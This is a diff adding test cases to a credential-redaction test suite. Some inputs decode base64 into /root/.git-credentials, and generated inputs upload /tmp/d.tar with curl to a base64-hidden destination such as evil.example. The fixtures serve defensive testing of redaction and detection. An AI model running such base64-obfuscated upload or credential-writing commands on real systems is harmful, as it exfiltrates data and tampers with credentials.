@@ -368,6 +368,15 @@ describe('redact: base64 of user:secret, of text holding a credential, of a priv
   it.each([
     [`echo ${pair} | base64 -d > /root/.git-credentials`, 'echo [REDACTED] | base64 -d > /root/.git-credentials'],
     [`--auth=${unpadded} push`, '--auth=[REDACTED] push'],
+    // As `echo bob:X | base64` writes it, with the newline echo ends with; a URL's userinfo.
+    [
+      `echo ${Buffer.from('https://bob:Sx8kLp2QvR7tYw@github.com\n').toString('base64')} | base64 -d > /root/.git-credentials`,
+      'echo [REDACTED] | base64 -d > /root/.git-credentials',
+    ],
+    [
+      `echo ${Buffer.from('bob:Sx8kLp2QvR7tYw\n').toString('base64')} | base64 -d > /root/.git-credentials`,
+      'echo [REDACTED] | base64 -d > /root/.git-credentials',
+    ],
     ['-H Authorization: Basic Ym9iOlN4OGtMcDJRdlI3dFl3', '-H Authorization: [REDACTED]'],
     ['-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x', '-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x'],
     [
@@ -392,6 +401,13 @@ describe('redact: base64 of user:secret, of text holding a credential, of a priv
       'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
       'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
     ],
+    // Where a script sends to, hidden in base64, is what a responder looks for: a URL, a host's port.
+    ...['https://evil.example/up', 'http://localhost:8080', 'evil.example:443/up', 'localhost:8080\n'].map(
+      (where): [string, string] => {
+        const hidden = `curl -T /tmp/d.tar $(echo ${Buffer.from(where).toString('base64')} | base64 -d)`;
+        return [hidden, hidden];
+      },
+    ),
   ])('%s', (input, output) => {
     expect(redact(input)).toBe(output);
     expect(redact(output)).toBe(output);
